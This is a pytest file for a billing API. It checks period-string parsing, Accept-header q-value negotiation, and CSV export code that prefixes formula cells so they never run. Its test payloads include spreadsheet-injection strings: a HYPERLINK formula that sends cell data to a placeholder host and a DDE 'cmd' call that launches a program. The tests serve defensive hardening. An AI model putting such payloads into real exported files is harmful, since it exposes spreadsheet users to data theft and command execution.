"""The API's input rules as pure functions: the period pattern OpenAPI declares agrees with
``parse_period``, Accept negotiation with q-values, CSV cells that never run as formulas."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest

from billing.adapters.spreadsheet import csv_text, inert
from billing.api.negotiation import negotiate
from billing.errors import RunError
from billing.services.billing_run import PERIOD_PATTERN, parse_period
from streamtoll.output import print_rows


def _ecma(pattern: str, value: str) -> bool:
    """JSON Schema's (ECMA-262) reading of a pattern: ``$`` is the very end."""
    return re.search(pattern.removesuffix("$") + r"\Z", value) is not None


def test_the_declared_period_pattern_is_exactly_what_parse_period_takes() -> None:
    candidates = [f"{y:04d}-{m:02d}" for y in range(0, 10_000) for m in range(0, 14)]
    candidates += ["２０２６-11", "2026-11 ", "2026-11\n", "2026-1", "02026-11", "+2026-11", "٢٠٢٦-11", ""]
    for text in candidates:
        try:
            parse_period(text)
            parsed = True
        except RunError:
            parsed = False
        assert _ecma(PERIOD_PATTERN, text) == parsed, text
    assert parse_period("9998-12")[1].isoformat() == "9999-01-01"


@pytest.mark.parametrize(
    ("accept", "chosen"),
    [
        (None, "application/json"),
        ("", "application/json"),
        ("*/*", "application/json"),
        ("application/pdf", "application/pdf"),
        ("application/pdf;q=0", None),
        ("application/pdf;q=0, */*;q=0.1", "application/json"),
        ("application/*, application/json;q=0", "application/pdf"),
        ("text/csv;q=0.5, application/json;q=0.9", "application/json"),
        ("text/csv, application/json", "text/csv"),  # a tie: the client's first
        ("text/*, */*", "text/csv"),  # a tie in weight: the more specific
        ("Text/CSV; charset=utf-8", "text/csv"),
        ("text/csv;q=1.0", "text/csv"),
        ("text/csv;q=2, application/json;q=0.1", "application/json"),  # q=2 is no q-value
        ("text/csv;q=abc", None),
        ("garbage", None),
        ("image/png, text/html", None),
        ("application/json;q=0.001", "application/json"),
    ],
)
def test_accept_with_q_values(accept: str | None, chosen: str | None) -> None:
    assert negotiate(accept, ("application/json", "text/csv", "application/pdf")) == chosen


PAYLOADS = ['=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "＝1+1"]


def test_formula_cells_are_prefixed_and_numbers_are_not() -> None:
    for p in PAYLOADS:
        assert inert(p) == "'" + p
    for same in (-5, Decimal("-12.50"), -1.5, "-5", "-12.50", "0", "plain", "a=b", "", None, "'=x"):
        assert inert(same) == same


def test_csv_text_keeps_every_cell_in_its_row() -> None:
    text = csv_text(["a", "b", "n"], [[p, "x,y", -3] for p in PAYLOADS] + [[None, 'say "hi"', 7]])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["a", "b", "n"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS] + [""]
    assert all(r[1:] == ["x,y", "-3"] for r in rows[1:-1]) and rows[-1][1:] == ['say "hi"', "7"]
    assert text.count("\n") == len(PAYLOADS) + 2 and "\r\n" not in text
    assert csv_text(["day", "bytes"], []) == "day,bytes\n"


def test_cli_csv_cells_never_start_a_formula() -> None:
    out = io.StringIO()
    rows = [{"client_id": p, "amount": Decimal("-4.20"), "bytes": -5} for p in PAYLOADS]
    print_rows(rows, "csv", ["client_id", "amount", "bytes"], out)
    read = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert [r["client_id"] for r in read] == ["'" + p for p in PAYLOADS]
    assert {(r["amount"], r["bytes"]) for r in read} == {("-4.20", "-5")}
